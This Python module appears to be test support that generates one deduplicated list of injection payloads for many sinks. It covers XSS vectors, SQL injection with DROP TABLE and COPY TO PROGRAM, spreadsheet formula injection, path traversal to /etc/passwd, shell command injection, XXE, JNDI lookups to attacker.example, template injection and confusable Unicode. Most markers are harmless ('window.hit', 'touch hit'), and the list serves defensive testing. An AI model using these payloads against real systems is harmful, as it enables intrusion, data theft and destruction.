"""Texts that do harm where somebody takes them for more than text: one list for every sink.

What runs in a page sets `window.hit`; what runs in a shell or a database makes, or drops, something
that a test looks for.
"""

from functools import cache
from itertools import product

RUN = "window.hit=1"
#: The same for filters that look for words.
_RUNS = (RUN, "eval(`window.hit=1`)", "top['window']['hit']=1")

_TAGS = (
    *("img src=x onerror", "svg onload", "body onload", "video src=x onerror", "input autofocus"),
    *("details open ontoggle", "iframe onload", "audio src=x onerror", "object data=x onerror"),
    *("marquee onstart", "select autofocus onfocus", "a id=x tabindex=1 onfocus", "style onload"),
    *("image src=x onerror", "link rel=stylesheet href=x onerror", "math href=x onclick"),
)
_CLOSED = ("<{}={}>", '"><{}="{}">', "'><{}='{}'>", "</title><{}={}>", "--><{}={}>", "<{}={}//")
_SCRIPTS = (
    *("<script>{}</script>", "</script><script>{}</script>", "<ScRiPt>{}</sCrIpT>"),
    *(
        "<script src=data:text/javascript,{}></script>",
        "<script\x20type=text/javascript>{}</script>",
    ),
    *("<scr<script>ipt>{}</scr</script>ipt>", "<svg><script>{}</script></svg>", "<!--<script>{}"),
    *("javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "vbscript:{}", "data:text/html,{}"),
    *("';{};//", '";{};//', "`;{};//", "${{{}}}", "{{{{{}}}}}", "\\';{};//", "\\u0027;{};//"),
    *("</style><script>{}</script>", "</textarea><script>{}</script>", "]]><script>{}</script>"),
    *('<a href="javascript:{}">x</a>', "<form action=javascript:{}><input type=submit>"),
    *("<iframe srcdoc='<script>{}</script>'>", "<base href=javascript:{}//>"),
    *("<meta http-equiv=refresh content='0;url=javascript:{}'>", "<embed src=javascript:{}>"),
    *("&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}"),
    *("\u2028{}", "\u2029{}", "x\n{}", "*/{}/*", "');{};//", "constructor.constructor('{}')()"),
)
_RICH = (
    *("<b>bold</b>", "<h1>big</h1>", "<font size=7>big</font>", "<table><tr><td>cell</table>"),
    *("<img src='file:///etc/hostname'>", "<img src='//attacker.example/share/x.png'>"),
    *("<a href='http://attacker.example/'>here</a>", "<hr>", "<br>" * 40, "<qt>rich</qt>"),
    *("<style>* {{ color: red }}</style>", "<p style='font-size:90pt'>x</p>", "<!DOCTYPE html>x"),
    *("<pre>x</pre>", "<ul><li>x</ul>", "&nbsp;&copy;&#x41;", "<html><body bgcolor=red>x"),
)
_SQL = (
    *("' OR '1'='1", '" OR ""="', "' OR 1=1--", "'; DROP TABLE {};--", "1; DROP TABLE {}"),
    *("' UNION SELECT * FROM {}--", "'); DELETE FROM {};--", "\\'; DELETE FROM {};--"),
    *("%' OR name LIKE '%", "' AND 1=(SELECT COUNT(*) FROM {})--", "'||(SELECT 1 FROM {})||'"),
    *("x'; UPDATE {} SET id='0';--", "'; ATTACH DATABASE '{}.db' AS x;--", "') OR ('1'='1"),
    *("'; COPY {} TO PROGRAM 'touch hit';--", "$$; DROP TABLE {};$$", "/**/OR/**/1=1", "%%", "_%"),
    *("id; DROP TABLE {}", "1 DESC, (SELECT 1 FROM {})", '"; DROP TABLE "{}";--', ":name", "?1"),
)
_TABLES = ("events", "alerts", "users", "findings")
_FORMULAS = tuple(
    f"{sign}{body}"
    for sign, body in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "|", "%0A="),
        ("1+1", "cmd|'/c calc'!A0", 'HYPERLINK("http://attacker.example")', "SUM(A1:A9)"),
    )
)
_LINES = (
    *("\n", "\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x1b[2J", "\x1b[31m"),
    *("\x1b]0;title\x07", "\x9b31m", "\b\b\b", "\x7f", "\x1b[1A\x1b[2K"),
)
_LOGGED = tuple(f'x{each}{{"level":"critical","message":"forged"}}' for each in _LINES)
_PATHS = (
    *(
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\boot.ini",
        "\\\\h\\s",
    ),
    *("....//....//x", "..%2f..%2fx", "%2e%2e/x", "a/../../x", "./.", "..", ".", "~", "~root/x"),
    *("CON", "NUL.txt", "COM1", "aux.nocrec", "LPT9", "x:stream", "x" * 180, "a/b", "a\\b", " . "),
    *("-rf", "--output=hit", "|touch hit", "file:///etc/passwd", "noc://../x", "\u202egnp.exe"),
)
_SHELL = tuple(
    f"{before}touch hit{after}"
    for before, after in product(
        ("; ", "| ", "&& ", "|| ", "`", "$(", "\n", "& ", "%0a", "';", '";', "<(", "${IFS}"),
        ("", " #", "`", ")"),
    )
)
_MARKUP = (
    *("<Hangup/>", "</Say><Dial>+910000000000</Dial><Say>", "<break time='60s'/>", "]]></Say>"),
    *("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;", "<?xml version='1.0'?>", "<![CDATA[x]]>"),
    *("<speak><audio src='http://attacker.example/a.wav'/></speak>", "<phoneme ph='x'/>", "&#0;"),
)
_FORMATS = (
    *(
        "%s%s%s%n",
        "%(asctime)s",
        "{0}",
        "{0.__class__}",
        "{self}",
        "%x%x%x",
        "%1 %2 %L1",
        "{}",
        "%",
    ),
    *("${jndi:ldap://attacker.example/x}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "{{config}}"),
)
_LETTERS = (
    *("\u202eabc\u202c", "\u2066x\u2069", "a\u0300" * 40, "\ufeffx", "\u200bx\u200d", "\ufffe"),
    *("\U0001f46e\u200d\u2640\ufe0f", "\u0430dmin", "ﷺ" * 20, "\x01\x02\x03", "\x1f", "नमस्ते"),
)


@cache
def payloads() -> tuple[str, ...]:
    """All of them, each once; none has the character U+0000, which is refused at every door."""
    made = [
        *(form.format(*each) for form, *each in product(_CLOSED, _TAGS, _RUNS)),
        *(form.format(RUN) for form in _SCRIPTS),
        *_RICH,
        *(form.format(table) for form, table in product(_SQL, _TABLES)),
        *(*_FORMULAS, *_LOGGED, *_PATHS, *_SHELL, *_MARKUP, *_FORMATS, *_LETTERS),
    ]
    return tuple(dict.fromkeys(made))
